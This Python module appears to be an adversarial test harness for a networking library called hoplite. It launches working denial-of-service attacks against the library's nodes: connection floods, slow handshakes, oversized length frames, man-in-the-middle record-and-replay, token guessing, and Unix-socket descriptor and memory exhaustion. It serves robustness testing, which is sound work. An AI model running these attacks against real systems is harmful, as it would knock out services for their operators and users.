"""A process without the token that attacks nodes until its standard input ends.

It prints one JSON line when the attack has started, and one with its results at the end. Of the protocol it implements
only what an attacker can read in the code: the header of a frame and the encoding of lengths.
"""

from __future__ import annotations

import argparse
import contextlib
import itertools
import json
import os
import re
import resource
import selectors
import socket
import struct
import sys
import threading
import time
from typing import TYPE_CHECKING, NamedTuple

import hoplite

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator

# Connections that one process tries, and the rate per second.
TRIES_MAX = 10_000
TRIES_PER_S = 2_000
# Descriptors that the attacker needs for other purposes than connections.
SPARE = 64
# Connections of an attack that keeps a few slow handshakes open.
SLOW = 200
# Time for which closing a socket blocks, in seconds.
LINGER_S = 25
# Step of the loop, and the interval between two bytes of the slow attack.
STEP_S, BYTE_S = 0.05, 1.0

MAGIC = b"HPLT"
HEADER = struct.Struct("<4sBBHIIQQ16s")
KINDS = range(1, 9)
GREETING, SECURE = 1, 8
# A length that is announced but never sent.
HUGE = 1 << 63

Address = tuple[str, int]


class Talk(NamedTuple):
    """The bytes that an attack sends on a connection.

    Attributes:
        opening: sent at once.
        drip: sent after that, one byte per second.
        echoes: whether the node's bytes are sent back, on this connection and on the previous one.
        held: maximum number of open connections.
    """

    opening: bytes = b""
    drip: bytes = b""
    echoes: bool = False
    held: int = TRIES_MAX


class Report:
    """The numbers of attempts and their results."""

    def __init__(self) -> None:
        self.tries = 0
        self.connected = 0
        self.ended = 0
        self.joined = 0
        self.received = 0
        # Bytes of the node's memory that the attacker still holds.
        self.kept = 0


def crc32c(data: bytes) -> int:
    """Returns the checksum of a body."""
    crc = 0xFFFFFFFF
    for byte in data:
        crc ^= byte
        for _ in range(8):
            crc = crc >> 1 ^ (0x82F63B78 if crc & 1 else 0)
    return crc ^ 0xFFFFFFFF


def frame(version: int, kind: int, body: bytes = b"", length: int | None = None, number: int = 0) -> bytes:
    """Returns an unencrypted frame."""
    length = len(body) if length is None else length
    return HEADER.pack(MAGIC, version, kind, 0, length, crc32c(body), number, number, bytes(16)) + body


def varint(number: int) -> bytes:
    """Encodes a number as bodies do."""
    groups = []
    while number > 0x7F:
        groups.append(number & 0x7F | 0x80)
        number >>= 7
    return bytes([*groups, number])


def version_of(address: Address) -> int:
    """Returns a node's protocol version. A node reports it to a peer with another version."""
    with socket.create_connection(address, timeout=5) as stream:
        stream.sendall(MAGIC + bytes(44))
        answer = stream.recv(4096)
    assert answer.startswith(MAGIC), answer
    return answer[4]


def lengths(version: int) -> Iterator[bytes]:
    """Yields frames that announce lengths that are never sent."""
    for kind in KINDS:
        yield frame(version, kind, length=0xFFFFFFFF, number=HUGE)
        yield frame(version, kind, length=16 * 1024, number=HUGE)
    # Greetings of every variant, with a huge length of a text or list.
    for variant in range(10):
        yield frame(version, GREETING, bytes([variant]) + varint(HUGE))
    yield frame(version, SECURE) + b"\x16\x03\x03\xff\xff" + bytes(64)


def openings(attack: str, version: int, recorded: bytes) -> Iterator[Talk]:
    """Yields the bytes of each connection of an attack, in order."""
    secure = frame(version, SECURE)
    half = secure + b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + bytes(range(32))
    if attack == "silent":
        yield from itertools.repeat(Talk())
    elif attack == "half":
        yield from itertools.repeat(Talk(half))
    elif attack == "slow":
        yield from itertools.repeat(Talk(drip=half, held=SLOW))
    elif attack == "replay":
        yield from itertools.repeat(Talk(recorded))
    elif attack == "reflect":
        yield from itertools.repeat(Talk(secure, echoes=True))
    else:
        yield from (Talk(opening) for opening in itertools.cycle(lengths(version)))


class Swarm:
    """As many connections to nodes as this process may open. A connection that a node closes is opened again."""

    def __init__(self, targets: list[Address], talks: Iterator[Talk], report: Report) -> None:
        self.targets = itertools.cycle(targets)
        self.talks = talks
        self.report = report
        _, most = resource.getrlimit(resource.RLIMIT_NOFILE)
        resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
        self.most = most - SPARE
        self._selector = selectors.DefaultSelector()
        self._talks: dict[socket.socket, Talk] = {}
        self._dripped: dict[socket.socket, int] = {}
        self._last: socket.socket | None = None

    def run(self, stop: threading.Event) -> None:
        """Attacks until `stop` is set."""
        begun = dripped = time.monotonic()
        while not stop.is_set():
            now = time.monotonic()
            due = min(int((now - begun) * TRIES_PER_S) + 1, TRIES_MAX)
            while self.report.tries < due and self._open():
                pass
            for key, _ in self._selector.select(STEP_S):
                assert isinstance(key.fileobj, socket.socket)
                self._receive(key.fileobj)
            if now - dripped > BYTE_S:
                dripped = now
                for stream in list(self._dripped):
                    self._drip(stream)
        for stream in list(self._talks):
            self._end(stream)

    def _open(self) -> bool:
        talk = next(self.talks)
        if len(self._talks) >= min(self.most, talk.held):
            return False
        self.report.tries += 1
        stream = socket.socket()
        try:
            stream.settimeout(1.0)
            stream.connect(next(self.targets))
            stream.setblocking(False)
            stream.send(talk.opening)
        except OSError:
            stream.close()
            return True
        self.report.connected += 1
        self._talks[stream] = talk
        self._selector.register(stream, selectors.EVENT_READ)
        if talk.drip:
            self._dripped[stream] = 0
        return True

    def _receive(self, stream: socket.socket) -> None:
        try:
            data = stream.recv(65536)
        except BlockingIOError:
            return
        except OSError:
            data = b""
        if not data:
            self._end(stream)
            return
        self.report.received += len(data)
        if self._talks[stream].echoes:
            for other in (self._last, stream):
                with contextlib.suppress(OSError):
                    if other is not None:
                        other.send(data)
            self._last = stream

    def _drip(self, stream: socket.socket) -> None:
        at, drip = self._dripped[stream], self._talks[stream].drip
        self._dripped[stream] += 1
        with contextlib.suppress(OSError):
            stream.send(drip[at : at + 1])

    def _end(self, stream: socket.socket) -> None:
        self.report.ended += 1
        self._selector.unregister(stream)
        del self._talks[stream]
        self._dripped.pop(stream, None)
        if self._last is stream:
            self._last = None
        stream.close()


def record(listener: socket.socket, target: Address) -> bytes:
    """Records an honest node's messages: the node is lured to this process, which relays both directions."""
    near, _ = listener.accept()
    far = socket.create_connection(target, timeout=5)
    recorded = []

    def back() -> None:
        with contextlib.suppress(OSError):
            while data := far.recv(65536):
                near.sendall(data)

    answering = threading.Thread(target=back)
    answering.start()
    near.settimeout(2)
    with contextlib.suppress(OSError):
        while data := near.recv(65536):
            recorded.append(data)
            far.sendall(data)
    for stream in (near, far):
        with contextlib.suppress(OSError):
            stream.shutdown(socket.SHUT_RDWR)
    answering.join()
    near.close()
    far.close()
    return b"".join(recorded)


def guess(targets: list[Address], report: Report, stop: threading.Event) -> None:
    """Tries to join with random tokens."""
    host = socket.create_connection(targets[0], timeout=5)
    own = host.getsockname()[0]
    host.close()
    for target in itertools.cycle(targets):
        if stop.is_set():
            return
        report.tries += 1
        try:
            hoplite.Node(listen=f"{own}:0", join=[f"{target[0]}:{target[1]}"], token=hoplite.new_token()).close()
        except hoplite.JoinError:
            report.ended += 1
        else:
            report.joined += 1


def local_version(path: str) -> int:
    """Returns the version of the protocol between a node and processes on its host."""
    with socket.socket(socket.AF_UNIX) as probe:
        probe.connect(path)
        probe.sendall(local_frame(b"\0\0"))
        found = re.search(rb"uses version (\d+)", probe.recv(4096))
    assert found is not None
    return int(found[1])


def take_no_descriptors(path: str, ref: str, report: Report, stop: threading.Event) -> None:
    """Attaches to a node on this host, requests memory repeatedly, and reads no reply."""
    hello = local_frame(b"\0" + varint(local_version(path)))
    name = ref.encode()
    streams: list[socket.socket] = []
    numbers = itertools.count(1)
    while not stop.wait(STEP_S):
        while len(streams) < SLOW:
            stream = socket.socket(socket.AF_UNIX)
            stream.connect(path)
            stream.setblocking(False)
            stream.send(hello)
            streams.append(stream)
            report.tries += 1
        for stream in list(streams):
            # A get, and reports that the first extents could not be mapped, so that the node sends their descriptors
            # again.
            get = b"\1" + varint(next(numbers)) + b"\x09\1" + varint(len(name)) + name + b"\0"
            unmapped = b"".join(local_frame(b"\6" + varint(extent)) for extent in range(4))
            try:
                stream.send(local_frame(get) + unmapped)
                report.connected += 1
            except BlockingIOError:
                pass
            except OSError:
                report.ended += 1
                stream.close()
                streams.remove(stream)
    for stream in streams:
        stream.close()


def send_sockets(path: str, report: Report, stop: threading.Event) -> None:
    """Sends a node sockets whose close blocks, and no messages."""
    with socket.create_server(("127.0.0.1", 0)) as listener:
        unread: list[socket.socket] = []
        while not stop.wait(STEP_S):
            if len(unread) >= SPARE:
                continue
            report.tries += 1
            with socket.create_connection(listener.getsockname()) as sent, socket.socket(socket.AF_UNIX) as stream:
                unread.append(listener.accept()[0])
                sent.setblocking(False)
                with contextlib.suppress(BlockingIOError):
                    while True:
                        sent.send(bytes(65536))
                sent.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, LINGER_S))
                stream.connect(path)
                try:
                    socket.send_fds(stream, [b"\0"], [sent.fileno()])
                    report.connected += 1
                except PermissionError:
                    report.ended += 1
                    sent.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 0, 0))


def confined_hello(path: str, capability: str) -> bytes:
    """Returns the first message of a client with a capability."""
    text = capability.encode()
    return local_frame(b"\x09" + varint(local_version(path)) + varint(len(text)) + text)


def take_places(path: str, capability: str, report: Report, stop: threading.Event) -> None:
    """Attaches as many clients as the node accepts."""
    _, most = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
    hello = confined_hello(path, capability)
    attached: list[socket.socket] = []
    greeting: list[socket.socket] = []
    while not stop.wait(STEP_S):
        for _ in range(int(TRIES_PER_S * STEP_S)):
            if report.tries >= TRIES_MAX or len(attached) + len(greeting) >= most - SPARE:
                break
            stream = socket.socket(socket.AF_UNIX)
            stream.setblocking(False)
            try:
                stream.connect(path)
                stream.send(hello)
            except OSError:
                stream.close()
                break
            report.tries += 1
            greeting.append(stream)
        for stream in list(greeting):
            try:
                data = stream.recv(4096)
            except BlockingIOError:
                continue
            except OSError:
                data = b""
            greeting.remove(stream)
            # A welcome is message kind 0.
            if data[4:5] == b"\0":
                attached.append(stream)
                report.connected += 1
            else:
                report.ended += 1
                stream.close()
    for stream in attached + greeting:
        stream.close()


def keep_copies(path: str, ref: str, capability: str, report: Report, stop: threading.Event) -> None:
    """Gets an object repeatedly, each time as a new client, and keeps the descriptors of its copies."""
    hello, name = confined_hello(path, capability), ref.encode()
    get = local_frame(b"\1\1\x09\1" + varint(len(name)) + name + b"\0")
    kept: list[int] = []
    while not stop.wait(STEP_S):
        if len(kept) >= SLOW:
            continue
        report.tries += 1
        with socket.socket(socket.AF_UNIX) as stream:
            stream.settimeout(5)
            stream.connect(path)
            stream.sendall(hello + get)
            with contextlib.suppress(OSError):
                while not (got := socket.recv_fds(stream, 4096, 8))[1] and got[0]:
                    pass
                kept += got[1]
    report.connected = len(kept)
    until = time.monotonic() + 5
    while time.monotonic() < until:
        report.kept = sum(os.fstat(descriptor).st_blocks * 512 for descriptor in kept)
        if not report.kept:
            break
        time.sleep(STEP_S)


def local_frame(body: bytes) -> bytes:
    """Returns a frame for the Unix socket."""
    return struct.pack("<I", len(body)) + body


# Attacks by a program on the same host.
LOCAL = ("local", "sockets", "places", "copies")
ATTACKS = ("silent", "half", "slow", "replay", "reflect", "lengths", "token", *LOCAL)


def main() -> None:
    """Runs one attack."""
    parser = argparse.ArgumentParser(prog="python -m faults.attacker")
    parser.add_argument("attack", choices=ATTACKS)
    parser.add_argument(
        "targets",
        nargs="+",
        help="addresses of nodes; for a local attack: a socket, the name of an object, a capability",
    )
    parser.add_argument("--listen", default="127.0.0.1", help="address where `replay` accepts the node that it records")
    options = parser.parse_args()
    report, stop = Report(), threading.Event()
    run: Callable[[threading.Event], None]
    if options.attack in LOCAL:
        path, ref, capability = options.targets
        run = {
            "local": lambda stop: take_no_descriptors(path, ref, report, stop),
            "sockets": lambda stop: send_sockets(path, report, stop),
            "places": lambda stop: take_places(path, capability, report, stop),
            "copies": lambda stop: keep_copies(path, ref, capability, report, stop),
        }[options.attack]
    else:
        targets = [(host, int(port)) for host, _, port in (target.rpartition(":") for target in options.targets)]
        if options.attack == "token":
            run = lambda stop: guess(targets, report, stop)  # noqa: E731
        else:
            recorded = b""
            if options.attack == "replay":
                with socket.create_server((options.listen, 0)) as listener:
                    write({"lure": f"{options.listen}:{listener.getsockname()[1]}"})
                    recorded = record(listener, targets[0])
            swarm = Swarm(targets, openings(options.attack, version_of(targets[0]), recorded), report)
            run = swarm.run
    thread = threading.Thread(target=run, args=(stop,))
    thread.start()
    # Wait until every target has been attacked.
    least = 1 if options.attack in LOCAL else 2 * len(options.targets)
    while thread.is_alive() and report.tries < least:
        time.sleep(STEP_S)
    write({"attack": options.attack})
    sys.stdin.read()
    stop.set()
    thread.join()
    write(vars(report))


def write(words: dict[str, object]) -> None:
    """Writes a line of JSON."""
    sys.stdout.write(json.dumps(words) + "\n")
    sys.stdout.flush()


if __name__ == "__main__":
    main()
